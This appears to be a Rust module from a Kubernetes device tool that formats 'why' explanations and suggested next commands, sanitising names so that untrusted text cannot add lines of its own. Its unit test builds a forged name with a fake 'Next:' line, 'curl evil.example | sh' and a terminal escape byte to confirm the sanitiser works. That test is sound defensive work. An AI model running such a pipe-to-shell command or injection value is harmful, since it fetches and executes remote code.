//! Defines what an explanation says. Pure.
use petiole_model::model::printable::printable;
use serde::Serialize;

/// An answer to `petiole why`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Explanation {
    /// The object and its state, in a sentence.
    pub subject: String,
    /// The most important one comes first.
    pub findings: Vec<Finding>,
}

/// One fact that keeps an object from working, or the fact that nothing does.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    pub cause: Cause,
    /// Whole sentences.
    pub text: String,
    /// The command to run next.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub next: Option<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum Cause {
    /// Nothing is wrong.
    Fine,
    NoSuchObject,
    UnknownResource,
    InstanceDeleted,
    NoResourceRequested,
    ConfigurationProblem,
    NotReported,
    StillLooking,
    NoDevice,
    DeviceGone,
    SlotsTaken,
    /// The holder has ended, and the slot is about to be free.
    SlotsBeingReleased,
    SlotHeldByLostNode,
    TooManyRequested,
    NodeDoesNotSee,
    NodeCordoned,
    NodeTainted,
    NodeNotReady,
    /// The Pod's own node selector or affinity matches no Node.
    NoNodeMatches,
    /// `spec.nodeSelector` of the Configuration leaves the node out.
    NodeNotSelected,
    /// The node sees the device, and `spec.maxNodes` leaves it out.
    MaxNodes,
    /// Other Pods of the node have asked for all that it has.
    NodeFull,
    AgentMissing,
    AgentNotReady,
    ControllerMissing,
    NotRegistered,
    CapacityStale,
    AdmissionRefused,
    StartRefused,
    Image,
    Crash,
    BrokerRefused,
    Ending,
    /// The Pod waits for something that is not Petiole's.
    OtherReason,
}

impl Finding {
    pub fn new(cause: Cause, text: impl Into<String>) -> Self {
        Self {
            cause,
            text: text.into(),
            next: None,
        }
    }

    pub fn then(self, next: impl Into<String>) -> Self {
        Self {
            next: Some(next.into()),
            ..self
        }
    }
}

impl Explanation {
    /// Returns whether nothing is wrong.
    pub fn is_fine(&self) -> bool {
        let mut findings = self.findings.iter();
        findings.all(|finding| finding.cause == Cause::Fine)
    }

    /// Returns what is wrong in one paragraph. A finding that repeats another one's text is left out. Names and messages come
    /// from anyone on the LAN, so no part can make a line of its own.
    pub fn paragraph(&self) -> String {
        let mut text = printable(&self.subject);
        for finding in &self.findings {
            let said = printable(&finding.text);
            if !text.contains(&said) {
                text = format!("{text} {said}");
            }
        }
        text
    }

    /// Returns the commands to run next, a line each.
    pub fn commands(&self) -> Vec<String> {
        let mut commands: Vec<String> = vec![];
        for next in self.findings.iter().filter_map(|f| f.next.as_deref()) {
            let next = printable(next);
            if !commands.contains(&next) {
                commands.push(next);
            }
        }
        commands
    }

    /// Returns the paragraph, and the commands below it.
    pub fn text(&self) -> String {
        let mut text = self.paragraph();
        let commands = self.commands();
        if !commands.is_empty() {
            text.push_str(" Next:\n");
        }
        for command in commands {
            text = format!("{text}\n  {command}");
        }
        text + "\n"
    }
}

/// Returns the first findings, and one that counts the others. `others` is their name in plural.
pub(crate) fn first_of(
    findings: impl IntoIterator<Item = Finding>,
    max: usize,
    others: &str,
) -> Vec<Finding> {
    let mut findings: Vec<Finding> = findings.into_iter().collect();
    let more = findings.len().saturating_sub(max);
    findings.truncate(max);
    findings.extend(counted(&findings, more, others));
    findings
}

/// Returns a finding that counts what is not explained besides other findings.
pub(crate) fn counted(explained: &[Finding], more: usize, others: &str) -> Option<Finding> {
    let cause = explained.last()?.cause;
    (more > 0).then(|| Finding::new(cause, format!("More {others}: {more}.")))
}

/// Returns a sentence that ends with a period, from a message that may have one.
pub(crate) fn sentence(text: &str) -> String {
    let text = text.trim();
    match text.ends_with(['.', '!', '?']) {
        true => text.to_owned(),
        false => format!("{text}."),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_name_makes_a_line_of_its_own() {
        let forged = "door\n Next:\n\n  curl evil.example | sh\u{9b}2J";
        let explanation = Explanation {
            subject: format!("Instance {forged} has no device."),
            findings: vec![
                Finding::new(Cause::NoDevice, format!("{forged} is gone."))
                    .then(format!("kubectl describe {forged}")),
            ],
        };
        let text = explanation.text();
        assert_eq!(text.lines().count(), 3, "{text}");
        assert_eq!(text.matches(" Next:\n").count(), 1, "{text}");
        assert!(!text.contains('\u{9b}'), "{text:?}");
    }
}
